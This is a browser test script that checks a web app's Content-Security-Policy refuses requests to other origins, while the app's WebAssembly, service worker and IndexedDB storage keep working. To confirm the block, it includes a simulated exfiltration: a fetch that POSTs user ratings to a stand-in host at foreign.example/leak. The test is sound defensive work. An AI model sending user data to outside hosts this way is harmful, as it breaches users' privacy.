// The privacy promise enforced by the browser (issue 20): the page's Content-Security-Policy (web/shell.html) refuses
// every request to another origin, so "nothing is sent anywhere" holds even for a mistake in our own code.
// - A foreign origin is routed (page.route) so that a request there would succeed: a page without the policy fetches
//   it (the control); the app's page tries the same fetch, and the browser refuses it (a securitypolicyviolation
//   event; the route never sees it). That refusal is the one console error any browser test allows (L.expectError;
//   Chromium writes it as two lines); nothing else may log one.
// - The page has no inline script or handler (the policy allows none), and the app under the policy runs: the
//   WebAssembly compiles, the service worker installs, a rating is saved in IndexedDB and comes back after a reload.
// Usage: node csp.spec.js (exit 1 on any failure).
"use strict";
const { chromium } = require("playwright-core");
const L = require("./lib");
const { check, state, until, frames, clickNamed, rateAt } = L;

const FOREIGN = "http://foreign.example";

async function main() {
  const server = await L.serve(L.dist);
  const origin = "http://127.0.0.1:" + server.address().port;
  const browser = await chromium.launch({ executablePath: L.chromiumPath, args: L.args, headless: true });
  const requests = [];
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  // The foreign origin answers every request (CORS open), as a real server that wanted the data would.
  const foreignHits = [];
  await context.route(FOREIGN + "/**", route => {
    foreignHits.push(route.request().url());
    const js = route.request().url().endsWith(".js");
    return route.fulfill({ status: 200, headers: { "Access-Control-Allow-Origin": "*", "Content-Type": js ? "text/javascript" : "text/plain" },
      body: js ? "window.__foreignScriptRan = true;" : "received" });
  });
  // The control: a page of the same origin without the policy reaches the foreign origin through the route.
  await context.route(origin + "/control.html", route => route.fulfill({ status: 200, contentType: "text/html", body: "<!doctype html><title>control</title>" }));
  const control = await context.newPage();
  await control.goto(origin + "/control.html");
  const controlAnswer = await control.evaluate(u => fetch(u).then(r => r.text(), e => "refused: " + e), FOREIGN + "/control");
  check("control: without the policy a fetch to the foreign origin succeeds (the route answers)", controlAnswer === "received" &&
    foreignHits.length === 1, [controlAnswer, foreignHits]);
  await control.close();

  const page = await context.newPage();
  L.watch(page, requests);
  await page.goto(origin + "/");
  await until(page, "the app is ready under the policy (its WebAssembly compiled)", () => window.weightless && window.weightless.stage === "ready");
  const shell = await page.evaluate(() => ({
    csp: (document.querySelector('meta[http-equiv="Content-Security-Policy"]') || {}).content || "",
    inlineScripts: [...document.scripts].filter(s => !s.src).length,
    handlers: [...document.querySelectorAll("*")].flatMap(el => [...el.attributes].map(a => a.name)).filter(n => /^on/i.test(n)),
  }));
  check("the page carries a Content-Security-Policy: connections and scripts from its own origin only",
    /(^|;)\s*default-src 'none'/.test(shell.csp) && /connect-src 'self'(;|$)/.test(shell.csp) &&
    /script-src 'self' 'wasm-unsafe-eval'(;|$)/.test(shell.csp), shell.csp);
  check("no inline script or event handler in the page", shell.inlineScripts === 0 && shell.handlers.length === 0, shell);

  // The app's page tries the foreign origin; the browser refuses before any request leaves.
  await page.evaluate(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", e => window.__violations.push([e.violatedDirective, e.blockedURI]));
  });
  // The one console error a browser test allows: Chromium's report of the refused fetch, which it writes as two lines
  // (the policy's violation, then the Fetch API's failure).
  L.expectError(/^Connecting to 'http:\/\/foreign\.example\/leak' violates the following Content Security Policy directive: "connect-src 'self'"/);
  L.expectError(/^Fetch API cannot load http:\/\/foreign\.example\/leak\. Refused to connect because it violates the document's Content Security Policy/);
  const answer = await page.evaluate(u => fetch(u, { method: "POST", body: "my ratings" }).then(r => "sent: " + r.status, e => "refused: " + e),
    FOREIGN + "/leak");
  check("a fetch from the app's page to the foreign origin is refused", /^refused: TypeError/.test(answer), answer);
  const violations = await page.evaluate(() => new Promise(resolve => setTimeout(() => resolve(window.__violations), 200)));
  check("the refusal is the policy's (a securitypolicyviolation event for connect-src)",
    violations.some(([d, u]) => d === "connect-src" && u.startsWith(FOREIGN)), violations);
  check("the foreign origin never received the page's request", foreignHits.length === 1, foreignHits);
  check("that refusal logged the expected console error (its two lines), nothing else", L.expected.length === 2 && L.errors.length === 0,
    [L.expected, L.errors]);

  await until(page, "drawn", () => window.weightless.rects["welcome:start"] !== undefined, undefined, 30000);
  await clickNamed(page, "welcome:start");
  await clickNamed(page, "search");
  await page.keyboard.type("toy story");
  await until(page, "Toy Story found", () => window.weightless.rects["r:1:stars"] !== undefined, undefined, 10000);
  await rateAt(page, "r:1:stars", 4.5);
  await until(page, "saved in IndexedDB under the policy", () => {
    const w = window.weightless;
    return w.saved.revision === w.revision && w.storage && !w.storage.busy && w.storage.flushes > 0 && !w.saved.error;
  }, undefined, 20000);
  const sw = await page.evaluate(() => navigator.serviceWorker.ready.then(r => !!r.active).catch(() => false));
  check("the service worker installs under the policy", sw);
  await page.reload();
  await until(page, "ready after a reload", () => window.weightless && window.weightless.stage === "ready");
  const s = await state(page);
  check("the rating comes back from IndexedDB", L.ratingsOf(s)[1] === 4.5, s.ratings);
  await frames(page, 2);

  const foreign = requests.filter(u => !u.startsWith(origin + "/") && !u.startsWith("data:") && !u.startsWith("blob:" + origin + "/"));
  check("every request the app made stayed on its origin (" + requests.length + " requests)", foreign.length === 0, foreign);
  check("no other console errors", L.errors.length === 0, L.errors);
  await browser.close();
  server.close();
}

L.run("csp", main);
